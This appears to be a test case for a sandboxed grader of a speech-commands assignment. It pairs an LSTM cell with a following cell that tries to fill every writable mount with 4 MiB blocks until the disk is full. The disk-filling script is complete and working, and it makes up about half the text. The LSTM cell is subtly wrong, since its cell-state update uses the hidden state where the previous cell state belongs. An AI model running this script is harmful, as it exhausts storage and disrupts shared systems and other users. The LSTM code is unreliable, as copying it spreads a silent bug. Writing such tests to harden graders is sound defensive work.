# ---
# assignment: speech_commands
# expect: {lstm_cell: lost}
# tries: fills every place that can be written to, all at once, until there is no space left
# evidence: reads /proc
# ---
# %% lstm_cell
class LSTMCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.hidden_size = hidden_size
        self.x2h = nn.Linear(input_size, 4 * hidden_size, bias=bias)
        self.h2h = nn.Linear(hidden_size, 4 * hidden_size, bias=bias)

    def forward(self, input, hx=None):
        if hx is None:
            hx = (input.new_zeros(len(input), self.hidden_size),) * 2
        h, c = hx
        i, f, g, o = (self.x2h(input) + self.h2h(h)).chunk(4, 1)
        cy = torch.sigmoid(f) * h + torch.sigmoid(i) * torch.tanh(g)
        return torch.sigmoid(o) * torch.tanh(cy), cy

# %% after lstm_cell
import os
import signal

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
BLOCK = bytes(4 << 20)
mounts = [line.split()[4] for line in open("/proc/self/mountinfo")]
places = {place for mount in mounts for place, folders, _ in os.walk(mount) if os.access(place, os.W_OK)}
places.discard("/proc")
written = 0
for place in sorted(places):
    for number in range(100):
        try:
            with open(f"{place}/fill{number}", "wb", buffering=0) as file:
                while True:
                    done = file.write(BLOCK)
                    written += done or 0
                    if not done:
                        break
        except OSError as error:
            if error.errno == 28:  # no space left
                break
print("written", written >> 20, "MiB")
